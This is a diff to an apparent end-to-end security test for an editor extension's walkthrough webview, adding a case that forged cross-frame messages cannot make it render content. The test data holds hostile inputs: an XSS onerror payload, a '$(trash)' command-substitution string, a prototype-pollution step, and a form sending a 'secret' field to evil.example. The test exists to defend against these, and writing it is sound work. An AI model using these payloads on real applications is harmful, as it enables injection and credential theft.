@@ -2,6 +2,7 @@ import assert from 'node:assert/strict';
 import { mkdir, mkdtemp, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import { eventually } from '../workbench/waiting';
 import { choose, inputsOf, sitDown, start, typeInputs, valueOf, type Desk } from './flow';
 
 const NAME = '<img src=x onerror=alert(1)> $(trash) [Free](command:workbench.action.quit) Bak\u202Eyre\u200B\nB';
@@ -30,6 +31,34 @@ const REPOSITORY = {
 
 /** A key of the person's own, to run what no palette lists. */
 const KEYS = JSON.stringify([{ key: 'ctrl+alt+9', command: 'agoras.accessToken' }]);
+
+/** The first would ask for the secret; the others are of no shape that the walkthrough knows. */
+const FORGED = [
+  { kind: 'render', html: '<form action="https://evil.example"><input name="secret"></form>', announcement: '' },
+  null,
+  7,
+  [],
+  { kind: 'reveal', step: '__proto__' },
+  { kind: 'render', html: { toString: 1 } },
+  'last',
+];
+
+/** Runs in the page. A sandboxed frame is of no origin, as the webview of another extension is of another one. */
+const addForeignPage = `{
+  const frame = document.createElement('iframe');
+  frame.name = 'foreign';
+  frame.setAttribute('sandbox', 'allow-scripts');
+  document.body.append(frame);
+}`;
+
+/** Runs in that frame, which may talk to every other. */
+const sendToEverybody = `(messages) => {
+  const send = (page) => {
+    for (const message of messages) page.postMessage(message, '*');
+    for (let index = 0; index < page.length; index++) send(page[index]);
+  };
+  send(window.top);
+}`;
 
 describe('A person who opens a folder that means no good, and does not trust it', () => {
   let desk: Desk;
@@ -135,6 +164,22 @@ describe('A person who opens a folder that means no good, and does not trust it'
     assert.equal(await frame.locator('img').count(), 0);
     await workbench.screenshot('hostile-walkthrough');
     assert.deepEqual(dialogs, []);
+  });
+
+  it('sees nothing of what another page sends to the walkthrough', async () => {
+    const { workbench } = desk;
+    const walkthrough = await workbench.webviewFrame('Agoras: Instagram Credentials');
+    await walkthrough.evaluate(
+      `addEventListener('message', ({ data }) => { if (data === 'last') window.hasHeardAll = true; })`,
+    );
+    await workbench.page.evaluate(addForeignPage);
+    const foreign = await eventually('a page of another origin', () =>
+      Promise.resolve(workbench.page.frame('foreign') ?? undefined),
+    );
+    await foreign.evaluate(`(${sendToEverybody})(${JSON.stringify(FORGED)})`);
+    await walkthrough.waitForFunction('window.hasHeardAll === true');
+    assert.equal(await walkthrough.locator('form, input').count(), 0);
+    await walkthrough.getByText(SHOWN).first().waitFor();
   });
 
   it('hands nothing to a task, a launch or a command of the folder, and hears why', async () => {
